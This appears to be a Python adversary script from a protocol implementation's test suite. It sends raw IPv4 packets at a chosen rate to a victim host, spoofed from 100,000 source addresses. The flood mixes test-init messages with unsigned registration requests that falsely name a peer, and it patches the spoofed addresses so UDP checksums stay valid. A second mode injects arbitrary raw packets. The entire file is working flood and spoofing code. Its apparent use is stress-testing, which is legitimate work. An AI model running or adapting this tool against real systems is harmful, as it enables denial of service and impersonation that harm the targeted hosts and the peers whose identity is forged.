# SPDX-License-Identifier: BSD-3-Clause
"""Someone in the middle of the internet who sends what he likes, in whoever's name.

    attacker.py flood RATE SECONDS VICTIM PEER   Inits and requests to VICTIM, from 100 000 sources;
                                                 the requests say that they are PEER's
    attacker.py send PACKET...                   IPv4 packets in hexadecimal, as they are

Prints how many it sent.
"""

import os
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "interop"))

from make_samples import MCAE, NETWORK, PORT, REQUEST_FIXED, address, udp  # noqa: E402

SOURCES = 100_000
FIRST = 0x64400000  # 100.64.0.0
STEP = 257          # so that they are of many networks, not of a few
BURST = 0.002       # seconds: what falls due in it is sent in one go
UNIX_EPOCH = 2208988800  # in seconds since 1900 (NTP)
REGISTRATION_REQUEST, HOME_TEST_INIT, CARE_OF_TEST_INIT = 1, 24, 25


def init(kind, victim):
    return udp("0.0.0.0", victim, bytes([kind, 0]) + bytes(8))


def request(victim, peer):
    """It names a peer, is of now, and is worth nothing: nobody signed it."""
    now = struct.pack("!II", int(time.time()) + UNIX_EPOCH, 0)
    fixed = REQUEST_FIXED[:4] + address(peer) + REQUEST_FIXED[8:16] + now
    return udp("0.0.0.0", victim, fixed + NETWORK + MCAE)


def from_source(packet, number):
    """As if it came from there. What the address adds to the UDP checksum is taken off again by an
    Init's cookie, or the low half of a request's Identification."""
    source = struct.pack("!I", FIRST + number % SOURCES * STEP)
    free = bytes(octet ^ 0xff for octet in source)
    at = 28 + (20 if packet[28] == REGISTRATION_REQUEST else 2)
    return packet[:12] + source + packet[16:at] + free + packet[at + 4:]


def flood(rate, seconds, victim, peer):
    templates = [init(HOME_TEST_INIT, victim), init(CARE_OF_TEST_INIT, victim),
                 request(victim, peer)]
    sent, start = 0, time.monotonic()
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as wire:
        while time.monotonic() - start < seconds:
            while sent < (time.monotonic() - start) * rate:
                packet = from_source(templates[sent % 3], sent)
                wire.sendto(packet, (victim, PORT))
                sent += 1
            time.sleep(BURST)
    return sent


def send(packets):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as wire:
        for packet in packets:
            wire.sendto(packet, (socket.inet_ntoa(packet[16:20]), 0))
    return len(packets)


if __name__ == "__main__":
    if sys.argv[1] == "flood":
        print(flood(int(sys.argv[2]), float(sys.argv[3]), sys.argv[4], sys.argv[5]))
    else:
        print(send([bytes.fromhex(text) for text in sys.argv[2:]]))
